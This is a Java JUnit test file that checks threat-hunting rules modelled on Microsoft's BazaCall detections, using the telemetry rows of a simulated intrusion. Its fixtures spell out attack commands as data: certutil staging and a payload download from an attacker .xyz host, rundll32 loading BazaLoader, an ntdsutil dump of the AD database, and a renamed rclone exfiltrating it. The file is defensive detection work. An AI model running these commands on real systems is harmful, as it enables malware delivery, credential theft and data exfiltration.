package dev.bazahunt.rules;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bazahunt.telemetry.DefenderEvent;
import dev.bazahunt.telemetry.DeviceFileEvent;
import dev.bazahunt.telemetry.DeviceNetworkEvent;
import dev.bazahunt.telemetry.DeviceProcessEvent;
import dev.bazahunt.telemetry.EmailEvent;
import org.junit.jupiter.api.Test;

/**
 * Microsoft's BazaCall pack, rule by rule, on rows shaped like the intrusion Microsoft's write-up
 * describes: the subscription lure, the workbook from the fake call centre's /cancel.php page, the
 * macro's {@code mkdir && copy certutil.exe}, the renamed certutil download, rundll32 running
 * BazaLoader's GlobalOut export, ntdsutil's install-from-media copy and a renamed rclone. Each rule
 * has rows it must match and near misses it must not; every row runs through the compiled rule file.
 */
class PackRuleFixturesTest {
    private static final HuntRules PACK = HuntRules.standard();
    static final String EMAILS = "54f12c74-fb8e-4871-a13f-4da835b319a7";
    static final String EXCEL_DELIVERY = "6fa3cf44-517f-4ce5-8727-948b0783b507";
    static final String DOMAIN_PATTERN = "1dd47f50-d42d-4e2f-9c2b-6e6c22147916";
    static final String EXCEL_MACRO = "fa2c1c3a-18f8-4c83-8501-ea110873f99f";
    static final String RUNDLL = "d0831db3-009f-40bb-9f82-c66b1f9674cd";
    static final String NTDS = "2a03d94e-991b-44f7-a2b3-e12ce6fd6c57";
    static final String RCLONE = "2b2e8b89-ba54-48f9-a24f-b9ae16a7ef6d";

    @Test
    void bazacallEmails() {
        assertOnly(EMAILS, email("Your free trial KMR004215896311 is about to end"));
        assertOnly(EMAILS, email("Premium membership AB1234567890 renewal notification"));
        assertOnly(EMAILS, email("Order ZX123456789 licenses"));
        assertNone(email("Your free trial is about to end"));            // no account number
        assertNone(email("Your trial kmr004215896311 is about to end"));  // lower-case letters: regex is case-sensitive
        assertNone(email("Invoice KMR004215896311 attached"));            // no subscription word
        assertNone(email("Your freetrial KMR004215896311"));             // freetrial is one term, neither free nor trial
        assertNone(email("KMR12345678 order"));                           // eight digits, the regex wants nine
    }

    @Test
    void maliciousExcelDelivery() {
        assertOnly(EXCEL_DELIVERY, download("https://bomovie.net/cancel.php", "https://bomovie.net/account"));
        assertOnly(EXCEL_DELIVERY, download("https://justpayless.net/CANCEL.PHP?sub=KMR3410029",
                "https://justpayless.net/account/login"));
        assertOnly(EXCEL_DELIVERY, download("https://x.example/download.php", "https://x.example/case/77120"));
        // and binds tighter than or: /cancel.php needs /account, /download.php needs /case.
        assertNone(download("https://bomovie.net/cancel.php", "https://bomovie.net/case"));
        assertNone(download("https://x.example/download.php", "https://x.example/account"));
        assertNone(download("https://bomovie.net/cancel.phpx", "https://bomovie.net/account"));
        assertNone(download("https://bomovie.net/cancel.php", "https://bomovie.net/accounts"));
        assertNone(download(null, "https://bomovie.net/account"));
    }

    @Test
    void excelFileDownloadDomainPattern() {
        assertOnly(DOMAIN_PATTERN, connection("chrome.exe", null, "https://pshe0pxe339ab.xyz/config.php"));
        assertOnly(DOMAIN_PATTERN, connection("excel.exe", null, "http://a.b.pshe0pxe339ab.xyz/config.php?id=2"));
        assertNone(connection("chrome.exe", null, "https://short.xyz/config.php"));      // under 14 characters before .xyz
        assertNone(connection("chrome.exe", null, "https://pshe0pxe339ab.XYZ/config.php")); // the regex is case-sensitive
        assertNone(connection("chrome.exe", null, "https://pshe0pxe339ab.xyz/config.json"));
        assertNone(connection("chrome.exe", null, "https://pshe0pxe339abxyz/config.php"));  // \\. needs a dot
    }

    @Test
    void excelMacroExecution() {
        String staging = "cmd.exe /c mkdir C:\\Users\\Public\\x8k2 && copy C:\\Windows\\System32\\certutil.exe"
                + " C:\\Users\\Public\\x8k2\\x8k2.exe";
        assertOnly(EXCEL_MACRO, process("EXCEL.EXE", "cmd.exe", staging, null));
        assertNone(process("WINWORD.EXE", "cmd.exe", staging, null));
        assertNone(process("EXCEL.EXE", "cmd.exe", "cmd.exe /c mkdir C:\\x & copy certutil.exe C:\\x\\y.exe", null));
        assertNone(process("EXCEL.EXE", "cmd.exe", "cmd.exe /c mkdir C:\\x && copy certutil C:\\x\\y.exe", null));
        assertNone(process("excel.exe", "splwow64.exe", "splwow64.exe 8192", null));
    }

    @Test
    void droppingPayloadViaCertutil() {
        DeviceFileEvent payload = new DeviceFileEvent();
        payload.deviceId = "b2c4e6a8f0123456789abcdef0123456789abcde";
        payload.initiatingProcessFileName = "x8k2.exe";
        payload.initiatingProcessCommandLine =
                "x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll";
        assertOnly(RuleIds.CERTUTIL_DOWNLOAD, payload);
        payload.initiatingProcessFileName = "certutil.exe";
        assertNone(payload);
    }

    @Test
    void runDllSuspiciousNetworkConnection() {
        assertOnly(RUNDLL, connection("rundll32.exe", "rundll32.exe C:\\Users\\Public\\x8k2\\tmp1834.dll,GlobalOut", null));
        assertOnly(RUNDLL, connection("RUNDLL32.EXE", "rundll32.exe tmp1834.dll,globalout", "198.51.100.23"));
        assertNone(connection("rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL", null));
        assertNone(connection("rundll32.exe", "rundll32.exe tmp1834.dll,GlobalOutput", null));
        assertNone(connection("regsvr32.exe", "regsvr32.exe tmp1834.dll,GlobalOut", null));
    }

    @Test
    void ntdsTheft() {
        assertOnly(NTDS, process("cmd.exe", "ntdsutil.exe",
                "ntdsutil \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\IFM\" q q", null));
        assertOnly(NTDS, process("cmd.exe", "NTDSUTIL.EXE", "ntdsutil \"ac in ntds\" i \"c fu C:\\ProgramData\\x\" q q", null));
        assertNone(process("cmd.exe", "ntdsutil.exe", "ntdsutil \"ac i ntds\" ifm \"create full C:\\Backup\\IFM\" q q", null));
        assertNone(process("cmd.exe", "ntdsutil.exe", "ntdsutil \"ac i ntds\" ifm \"create full D:\\IFM\" q q", null));
        assertNone(process("cmd.exe", "ntdsutil.exe", "ntdsutil \"ac i ntds\" ifm \"create sysvol C:\\Temp\\x\" q q", null));
        assertNone(process("cmd.exe", "dsdbutil.exe", "dsdbutil \"ac i ntds\" ifm \"create full C:\\Temp\\IFM\" q q", null));
    }

    @Test
    void renamedRcloneExfil() {
        assertOnly(RCLONE, process("cmd.exe", "svchosts.exe", "svchosts.exe copy C:\\Temp\\IFM mega:backup", "Rclone"));
        assertNone(process("cmd.exe", "rclone.exe", "rclone.exe copy C:\\Temp\\IFM mega:backup", "Rclone"));
        assertNone(process("cmd.exe", "RClone.exe", "rclone.exe copy C:\\Temp\\IFM mega:backup", "rclone"));
        assertNone(process("cmd.exe", "svchosts.exe", "svchosts.exe -k netsvcs", "Microsoft Windows"));
        assertNone(process("cmd.exe", "svchosts.exe", "svchosts.exe", "rclonex"));
    }

    @Test
    void everyPackRuleHasItsFixturesHere() {
        assertThat(PACK.selectedIds()).containsExactlyInAnyOrder(RuleIds.CERTUTIL_DOWNLOAD, EMAILS, EXCEL_DELIVERY,
                DOMAIN_PATTERN, EXCEL_MACRO, RUNDLL, NTDS, RCLONE);
    }

    private static void assertOnly(String ruleId, DefenderEvent row) {
        assertThat(PACK.matching(row)).as(row.toString()).containsExactly(ruleId);
    }

    private static void assertNone(DefenderEvent row) {
        assertThat(PACK.matching(row)).as(row.toString()).isEmpty();
    }

    private static EmailEvent email(String subject) {
        EmailEvent email = new EmailEvent();
        email.networkMessageId = "9b6a2f0e-4c1d-4a8e-9f3b-1c2d3e4f5a6b";
        email.recipientEmailAddress = "j.doe@contoso.com";
        email.senderFromAddress = "billing@renewals-center.example";
        email.subject = subject;
        return email;
    }

    private static DeviceFileEvent download(String url, String referrer) {
        DeviceFileEvent file = new DeviceFileEvent();
        file.deviceId = "b2c4e6a8f0123456789abcdef0123456789abcde";
        file.fileName = "cancel_sub_KMR3410029.xlsb";
        file.folderPath = "C:\\Users\\j.doe\\Downloads\\cancel_sub_KMR3410029.xlsb";
        file.initiatingProcessFileName = "msedge.exe";
        file.fileOriginUrl = url;
        file.fileOriginReferrerUrl = referrer;
        return file;
    }

    private static DeviceNetworkEvent connection(String process, String commandLine, String remote) {
        DeviceNetworkEvent connection = new DeviceNetworkEvent();
        connection.deviceId = "b2c4e6a8f0123456789abcdef0123456789abcde";
        connection.initiatingProcessFileName = process;
        connection.initiatingProcessCommandLine = commandLine;
        if (remote != null && remote.contains("/")) {
            connection.remoteUrl = remote;
        } else {
            connection.remoteIP = remote;
        }
        return connection;
    }

    private static DeviceProcessEvent process(String parent, String fileName, String commandLine, String product) {
        DeviceProcessEvent process = new DeviceProcessEvent();
        process.deviceId = "b2c4e6a8f0123456789abcdef0123456789abcde";
        process.initiatingProcessFileName = parent;
        process.fileName = fileName;
        process.processCommandLine = commandLine;
        process.processVersionInfoProductName = product;
        return process;
    }
}
